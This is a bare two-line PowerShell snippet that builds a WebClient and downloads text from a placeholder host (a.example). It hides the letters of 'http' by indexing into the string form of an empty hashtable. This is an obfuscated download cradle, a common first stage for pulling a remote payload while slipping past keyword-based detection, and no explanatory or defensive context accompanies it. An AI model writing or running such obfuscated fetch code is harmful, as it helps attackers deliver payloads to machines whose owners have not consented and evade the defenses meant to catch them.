$wc = New-Object System.Net.WebClient
$wc.DownloadString(('h{0}{0}p://a.example/p/x.txt' -f "$(@{})"[3]))
